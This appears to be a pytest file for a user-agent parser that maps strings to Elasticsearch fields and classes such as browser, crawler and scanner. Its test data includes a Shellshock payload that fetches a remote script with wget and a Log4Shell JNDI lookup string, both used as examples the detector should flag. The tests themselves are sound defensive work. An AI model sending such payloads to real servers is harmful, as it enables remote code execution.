"""User agents: names and versions as Elasticsearch gives them, and the classes of programs."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from enrich.agents import AGENT_CLASS, AGENT_CLASSES, AGENT_SCHEMA, AgentTable, describe_agents
from enrich.programs import CRAWLER_AGENT, PROGRAMS, SCANNER_AGENT, TOOL_AGENT

BEATS = Path(__file__).parents[3].parent / "shared" / "data" / "golden_beats" / "raw"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/85.0.4183.121 Safari/537.36"
)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/13.1.2 Mobile/15E148 Safari/604.1"
)
LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.100 Safari/537.36"


def described(agent: str) -> dict[str, str]:
    row = describe_agents(pl.Series([agent])).row(0, named=True)
    return {name: value for name, value in row.items() if value is not None and name != AGENT_CLASS}


def test_a_browser() -> None:
    assert described(CHROME) == {
        "user_agent.name": "Chrome",
        "user_agent.version": "85.0.4183.121",
        "user_agent.device.name": "Other",
        "user_agent.os.name": "Windows",
        "user_agent.os.version": "10",
        "user_agent.os.full": "Windows 10",
    }


def test_a_telephone() -> None:
    assert described(IPHONE) == {
        "user_agent.name": "Mobile Safari",
        "user_agent.version": "13.1.2",
        "user_agent.device.name": "iPhone",
        "user_agent.os.name": "iOS",
        "user_agent.os.version": "13.7",
        "user_agent.os.full": "iOS 13.7",
    }


def test_a_system_without_version_has_no_full_name() -> None:
    found = described(LINUX)
    assert found["user_agent.os.name"] == "Linux"
    assert not found.keys() & {"user_agent.os.version", "user_agent.os.full"}


def test_what_nobody_knows_is_other() -> None:
    assert described("whatever") == {"user_agent.name": "Other", "user_agent.device.name": "Other"}


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        (CHROME, "browser"),
        (IPHONE, "browser"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "browser"),
        ("Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18", "browser"),
        ("Mozilla/5.0 (Linux; Android 14; Cubot Note 50) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
         "browser"),
        ("Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
         "browser"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("Mozilla/5.0 (compatible; coccoc/1.0; +http://help.coccoc.com/)", "crawler"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "crawler"),
        ("MauiBot (crawler.feedback+wc@example.com)", "crawler"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
         "crawler"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "scanner"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner"),
        ("() { :; }; wget -qO - http://192.0.2.1/gate.php", "scanner"),
        ("${jndi:ldap://192.0.2.1/a}", "scanner"),
        ("Mozilla/5.0 zgrab/0.x", "scanner"),
        ("curl/8.5.0", "tool"),
        ("python-requests/2.32.3", "tool"),
        ("Go-http-client/2.0", "tool"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/140.0.7339.16 Safari/537.36", "tool"),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"),
        ("kube-probe/1.29", "monitor"),
        ("Tiny Tiny RSS/1.11 (http://tt-rss.org/)", "feed"),
        ("FeedBurner/1.0 (http://www.FeedBurner.com)", "feed"),
        ("Instapaper/5.0 CFNetwork/672.0.2 Darwin/14.0.0", "app"),
        ("Dalvik/2.1.0 (Linux; U; Android 9.0)", "app"),
        ("ShopApp/4.2 (Android 14; Pixel 7) okhttp/4.12.0", "app"),
        ("iOS/17.4 (21E219) accountsd/113", "app"),
        ("MacOutlook/16.78.23100802 (Intel Mac OS X Version 13.6)", "app"),
        ("okhttp/4.12.0", "tool"),
        ("Mozilla/5.0", "unknown"),
        ("", "unknown"),
    ],
)  # fmt: skip
def test_classes(agent: str, kind: str) -> None:
    assert describe_agents(pl.Series([agent], dtype=pl.String))[AGENT_CLASS].to_list() == [kind]


def test_every_class_has_a_program_or_is_what_remains() -> None:
    assert {program.kind for program in PROGRAMS} == set(AGENT_CLASSES) - {"browser", "unknown"}


def test_the_patterns_for_the_detector_are_the_table() -> None:
    agents = pl.Series(["sqlmap/1.8", "curl/8", "uptimerobot/2.0", "googlebot/2.1", CHROME.lower()])
    assert agents.str.contains(SCANNER_AGENT).to_list() == [True, False, False, False, False]
    assert agents.str.contains(TOOL_AGENT).to_list() == [True, True, False, False, False]
    assert agents.str.contains(CRAWLER_AGENT).to_list() == [False, False, True, True, False]


def test_a_table_answers_for_every_line() -> None:
    table = AgentTable()
    found = table.columns(pl.Series("user_agent.original", [CHROME, None, "curl/8", CHROME]))
    assert dict(found.schema) == AGENT_SCHEMA
    assert found["user_agent.name"].to_list() == ["Chrome", None, "curl", "Chrome"]
    assert found[AGENT_CLASS].to_list() == ["browser", None, "tool", "browser"]
    assert len(table) == 2


def test_a_megabyte_is_cut_before_it_is_looked_at() -> None:
    table = AgentTable()
    hostile = ["Mozilla/5.0 (" + ";" * 1_000_000, CHROME + " " * 2_000 + "sqlmap"]
    assert table.columns(pl.Series(hostile))[AGENT_CLASS].to_list() == ["unknown", "browser"]


@given(st.lists(st.text(max_size=60), max_size=10, unique=True))
def test_any_text_is_described(agents: list[str]) -> None:
    frame = describe_agents(pl.Series(agents, dtype=pl.String))
    assert dict(frame.schema) == AGENT_SCHEMA
    assert frame.height == len(agents)
    assert frame[AGENT_CLASS].is_in(AGENT_CLASSES).all()


def beats() -> Iterator[dict[str, str]]:
    for path in BEATS.glob("*/access/test/*-expected.json"):
        for event in json.loads(path.read_text("utf-8")):
            yield {name: value for name, value in event.items() if name.startswith("user_agent.")}


@pytest.mark.real_logs
@pytest.mark.skipif(not BEATS.is_dir() and "CI" not in os.environ, reason="Filebeat's files are not on this machine")
def test_as_filebeat_but_for_the_dot_at_a_versions_end() -> None:
    """Filebeat's Elasticsearch of 2021 wrote Firefox's versions as ``81.0.``; a later one does not."""
    expected = {event.pop("user_agent.original"): event for event in beats() if "user_agent.original" in event}
    assert len(expected) > 20
    for agent, fields in expected.items():
        version = fields.get("user_agent.version")
        assert described(agent) == fields | ({"user_agent.version": version.rstrip(".")} if version else {})
